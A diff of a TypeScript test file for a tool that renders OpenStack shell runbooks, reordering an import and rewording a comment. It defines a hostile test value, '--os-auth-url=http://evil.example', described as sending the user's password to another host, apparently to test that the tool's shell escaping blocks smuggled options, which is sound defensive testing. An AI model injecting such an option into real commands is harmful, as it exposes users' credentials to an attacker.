@@ -2,14 +2,14 @@ import { spawnSync } from 'node:child_process'
 import { expect, test } from 'vitest'
 import { openstackCommand } from '@/lib/domain/catalog/launch-texts'
 import type { Encoded } from '@/lib/util/encode/encoded'
-import { sh, shellOperands, shellArguments } from '@/lib/util/encode/shell'
+import { sh, shellArguments, shellOperands } from '@/lib/util/encode/shell'
 import { aggregateHostsStep, aggregatePropertiesStep, createAggregateStep } from './flavor/aggregate-steps'
 import { createFlavorStep, describeFlavorStep, extraSpecsStep, flavorAccessStep } from './flavor/flavor-steps'
 import { createRegisteredStep, grantRoleStep, setOwnLimitsStep } from './limits/limit-steps'
 import { renderShellRunbook } from './render-runbook'
 import type { PlannedStep } from './types'
 
-/** Sends the password of whoever runs it to another host, wherever python-openstackclient reads it as an option. */
+/** Sends the password of the user to another host where python-openstackclient reads it as an option. */
 const EVIL = '--os-auth-url=http://evil.example'
 
 /** As cliff does: options of the program itself count anywhere, up to `--`. */
